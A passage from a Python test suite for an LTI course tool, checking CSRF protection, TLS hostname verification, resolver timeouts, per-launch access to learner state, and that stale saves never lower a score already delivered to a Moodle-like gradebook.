    assert tool.client.get(f"/lti/deep-link/{launch_id}").status_code == 403
    answer = tool.client.post(f"/lti/deep-link/{launch_id}",
                              data={"csrf": csrf_token(tool.tool.settings, launch_id), "item": "module:grundlagen"})
    assert answer.status_code == 403 and 'name="JWT"' not in answer.text


@pytest.mark.parametrize("roles", NOT_TEACHING)
def test_is_instructor_refuses(roles):
    from lti.roles import is_instructor

    assert not is_instructor(roles)


@pytest.mark.parametrize("roles", TEACHING)
def test_is_instructor_accepts(roles):
    from lti.roles import is_instructor

    assert is_instructor(roles)


def test_tls_is_verified_for_the_host_name_while_connecting_to_the_vetted_address(tmp_path, monkeypatch):
    # The socket goes to the vetted IP, but SNI and certificate checking keep the name: a certificate for
    # platform.tls.test is accepted under that name and refused under another name on the same address.
    import datetime as dt
    import socket

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from lti import outbound
    from lti_platform import Server

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "platform.tls.test")])
    now_ = dt.datetime.now(dt.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now_ - dt.timedelta(minutes=5))
            .not_valid_after(now_ + dt.timedelta(hours=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName("platform.tls.test")]), critical=False)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .sign(key, hashes.SHA256()))
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    seen: list[str] = []

    async def hello(request):
        seen.append(request.headers["host"])
        return PlainTextResponse("ok")

    server = Server(Starlette(routes=[Route("/", hello)]), ssl_certfile=str(cert_file), ssl_keyfile=str(key_file))
    real = socket.getaddrinfo

    def local(host, port, *args, **kwargs):
        if host.endswith(".tls.test"):
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(outbound.socket, "getaddrinfo", local)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert_file))  # the test's certificate is the trusted one
    try:
        with OutboundClient(DEVELOPMENT) as client:
            assert client.get(f"https://platform.tls.test:{server.port}/").text == "ok"
            with pytest.raises(OutboundError):
                client.get(f"https://other.tls.test:{server.port}/")
        assert seen == [f"platform.tls.test:{server.port}"]
    finally:
        server.stop()


def test_a_name_that_takes_too_long_to_resolve_is_given_up(monkeypatch):
    import socket

    from lti import outbound

    real = socket.getaddrinfo

    def slow(host, port, *args, **kwargs):
        if host == "slow.resolver.test":
            time.sleep(3)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(outbound.socket, "getaddrinfo", slow)
    started = time.monotonic()
    with OutboundClient(OutboundPolicy(allow_loopback=True, timeout=0.5)) as client, \
            pytest.raises(OutboundError, match="could not be reached"):
        client.get("http://slow.resolver.test:1/")
    assert time.monotonic() - started < 2.0


# --- the learner's state: reads need the launch's token, writes never lower the gradebook ---------


def state_launch(tool: Tool, user: str, **claims) -> tuple[str, str]:
    return tool.play(tool.launch(custom={"module": "grundlagen"}, user=user, resource_link="rl-state", **claims))


def test_reading_state_needs_the_launchs_own_token(tool):
    victim_id, victim_page = state_launch(tool, "s-victim")
    assert put_state(tool, victim_id, csrf_of(victim_page), {"location": "lesson-einstieg", "state": "secret"}).status_code == 204
    tool.client.cookies.clear()
    attacker_id, attacker_page = state_launch(tool, "s-attacker")
    # The victim's launch id is known (a URL in a log); the attacker's own, valid token is not its token.
    for token in (None, "", "wrong", csrf_of(attacker_page)):
        headers = {"X-CSRF-Token": token} if token is not None else {}
        response = tool.client.get(f"/lti/state/{victim_id}", headers=headers)
        assert response.status_code == 403 and "secret" not in response.text and "lesson-einstieg" not in response.text
    assert tool.state(attacker_id, attacker_page).json()["state"] is None
    assert tool.state(victim_id, victim_page).json()["state"] == "secret"


def test_an_expired_launch_neither_reads_nor_writes_state(tool):
    launch_id, page = state_launch(tool, "s-expired")
    assert put_state(tool, launch_id, csrf_of(page), {"state": "kept"}).status_code == 204
    with tool.tool.Session() as session:
        session.execute(update(Launch).where(Launch.id == launch_id).values(created_at=int(time.time()) - 2 * 86400))
        session.commit()
    response = tool.state(launch_id, page)
    assert response.status_code == 403 and "kept" not in response.text and "(unknown_launch)" in response.text
    assert put_state(tool, launch_id, csrf_of(page), {"state": "overwritten"}).status_code == 403
    with tool.tool.Session() as session:
        assert session.scalar(select(Progress.state).where(Progress.user_id == "s-expired")) == "kept"


@pytest.fixture
def graded(tmp_path):
    """(tool, platform) of their own: this module's shared platform is changed by the tests above."""
    p = MoodleLikePlatform()
    t = Tool(tmp_path / "data", p)
    yield t, p
    t.close()
    p.stop()


def test_a_stale_save_after_a_delivered_score_changes_neither_the_row_nor_the_gradebook(graded):
    """Moodle showed 100; a save from a page opened before the attempt (and a relaunch's empty start) must
    not set the tool's row back, and must queue nothing: row and gradebook stay equal."""
    tool, platform = graded
    user, lineitem = "s-stale", platform.lineitem("rl-stale")
    platform.enrol(user)
    link = {"resource_link": "rl-stale", "lineitem": lineitem}
    old_id, old_page = tool.play(tool.launch(custom={"module": "grundlagen"}, user=user, **link))
    assert put_state(tool, old_id, csrf_of(old_page), {"progress": 0.4, "completion": "incomplete",
                                                        "state": "old"}).status_code == 204
    new_id, new_page = tool.play(tool.launch(custom={"module": "grundlagen"}, user=user, **link))
    assert put_state(tool, new_id, csrf_of(new_page), {"progress": 1.0, "completion": "completed"}).status_code == 204
    earn(tool, new_id, new_page, 100.0)
    deliver_all(tool)
    item = next(item for item in platform.lineitems.values() if item.id == lineitem)
    assert item.scores[user][1]["scoreGiven"] == 100
    sent = tool.counts()["outbox"]

    stale = {"progress": 0.4, "completion": "incomplete", "location": "lesson-einstieg", "state": "old"}
    assert put_state(tool, old_id, csrf_of(old_page), stale).status_code == 204
    relaunch_id, relaunch_page = tool.play(tool.launch(custom={"module": "grundlagen"}, user=user, **link))
    assert put_state(tool, relaunch_id, csrf_of(relaunch_page), {"progress": 0.0, "completion": "incomplete",
                                                                  "state": None}).status_code == 204
    lower = tool.submit(relaunch_id, relaunch_page, tool.answers_scoring("grundlagen", 37.5)).json()
    assert (lower["attempts"], lower["best"]) == (2, 100.0)  # the retry adds an attempt, erases nothing

    with tool.tool.Session() as session:
        row = session.scalar(select(Progress).where(Progress.user_id == user))
        assert (row.score, row.completion, row.success, row.progress) == (100.0, "completed", "passed", 1.0)
        assert row.state is None  # where the learner is: the latest save's
        changes = session.scalars(select(ProgressChange).where(ProgressChange.user_id == user)
                                  .order_by(ProgressChange.id)).all()
    assert tool.counts()["outbox"] == sent, "nothing new is queued"
    assert item.scores[user][1]["scoreGiven"] == 100
    # the trail: who wrote what from which launch, the refused lowerings included
    assert [(c.launch_id, c.source, c.actor_id) for c in changes] == [
        (old_id, "state", user), (new_id, "state", user), (new_id, "attempt", user), (old_id, "state", user),
        (relaunch_id, "state", user), (relaunch_id, "attempt", user)]
    assert changes[2].changes["score"] == [None, 100.0] and changes[2].gradebook == 100.0
    assert changes[3].changes == {} and changes[3].kept == {"progress": [1.0, 0.4], "completion": ["completed", "incomplete"]}
    assert changes[5].changes == {"attempts": [1, 2]} and changes[5].gradebook is None

    # the teacher sees the last delivered score, when, and the trail in the course's language (German)
    platform.enrol("s-teacher", role="Instructor")
    teacher_id, _ = tool.play(tool.launch(custom={"module": "grundlagen"}, user="s-teacher",
                                          roles=[ROLE_INSTRUCTOR], **link))
    page = tool.client.get(f"/lti/teacher/{teacher_id}", params={"learner": user}).text
    assert 'data-delivered="100.0"' in page and "100 am " in page
    assert page.count(f'<tr data-learner="{user}" data-launch=') == 6
    assert "Fortschritt 40 % abgelehnt (niedriger als gespeichert), bleibt 100 %" in page
    assert "Bearbeitung nicht abgeschlossen abgelehnt" in page and "an die Bewertung gesendet: 100" in page
